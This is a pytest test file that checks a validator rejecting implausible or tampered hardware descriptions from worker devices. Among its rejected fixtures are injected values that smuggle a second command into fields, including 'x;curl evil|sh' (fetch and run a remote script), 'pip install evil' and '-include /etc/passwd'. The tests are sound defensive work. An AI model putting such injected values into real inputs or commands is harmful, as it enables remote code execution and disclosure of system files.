"""What a device says of itself is taken where a machine could say so."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest

from workers.child.hardware import _plausible

SAID: dict[str, Any] = {
    "hardware": {
        "name": "Cortex-A72", "system": "Linux", "machine": "aarch64", "cores": 4, "memory": 2**32, "flags": ["asimd"],
        "target": {"kind": "llvm", "mtriple": "aarch64-linux-gnu", "num-cores": 4},
    },
    "peak": None,
    "versions": {"apache-tvm": "0.27.0"},
}  # fmt: skip
SPOILED: dict[str, Callable[[dict[str, Any]], object]] = {
    "lines that would stand in an archive": lambda said: said["hardware"].update(name="Board\n\npip install evil"),
    "what no page has room for": lambda said: said["hardware"].update(flags=["x" * 150] * 1000),
    "a word without an end": lambda said: said["hardware"].update(flags=["x" * 1000]),
    "no words": lambda said: said["hardware"].update(flags=[7]),
    "a command in what is to be installed": lambda said: said["hardware"]["target"].update(
        mtriple="x;curl evil|sh;-linux-gnu"
    ),
    "a version that is none": lambda said: said["versions"].update({"apache-tvm": "0.27\n<b>"}),
    "a processor with lines": lambda said: said["hardware"]["target"].update(mcpu="a\nb"),
    "cores in a word": lambda said: said["hardware"].update(cores="4"),
    "a peak without an end": lambda said: said.update(peak={"flops": 1e999, "bandwidth": 1e9}),
    "half a peak": lambda said: said.update(peak={"flops": 1e9}),
    "no cores": lambda said: said["hardware"].update(cores=0),
    "nothing": lambda said: said.clear(),
}


GPU: dict[str, Any] = {
    "hardware": {
        "name": "NVIDIA H200", "system": "Linux", "machine": "x86_64", "cores": 132, "memory": 150109880320, "flags": ["avx2"],
        "target": {
            "kind": "cuda", "arch": "sm_90", "max_threads_per_block": 1024, "max_shared_memory_per_block": 49152,
            "host": {"kind": "llvm", "mcpu": "emeraldrapids", "mtriple": "x86_64-linux-gnu", "num-cores": 16},
        },
    },
    "peak": {"flops": 5e13, "bandwidth": 4e12},
    "versions": {"apache-tvm": "0.27.0"},
}  # fmt: skip


def test_what_a_device_says_is_taken() -> None:
    assert _plausible(SAID)
    assert _plausible(GPU)


@pytest.mark.parametrize(
    "spoiled",
    [
        {"kind": "hip"},
        {"arch": "sm_90 -include /etc/passwd"},
        {"max_threads_per_block": 0},
        {"max_threads_per_block": 1e3},
    ],
)
def test_what_no_gpu_says_is_not(spoiled: dict[str, Any]) -> None:
    said = copy.deepcopy(GPU)
    said["hardware"]["target"].update(spoiled)
    assert not _plausible(said)
    del said["hardware"]["target"][next(iter(spoiled))]
    assert not _plausible(said)


@pytest.mark.parametrize("spoiled", [{"mtriple": "x;curl evil|sh;-linux-gnu"}, {"mcpu": "a\nb"}, {"mattr": ["a\nb"]}])
def test_what_no_gpus_processor_says_is_not(spoiled: dict[str, Any]) -> None:
    said = copy.deepcopy(GPU)
    said["hardware"]["target"]["host"].update(spoiled)
    assert not _plausible(said)


@pytest.mark.parametrize("name", SPOILED)
def test_what_no_machine_says_is_not(name: str) -> None:
    said = copy.deepcopy(SAID)
    SPOILED[name](said)
    assert not _plausible(said)
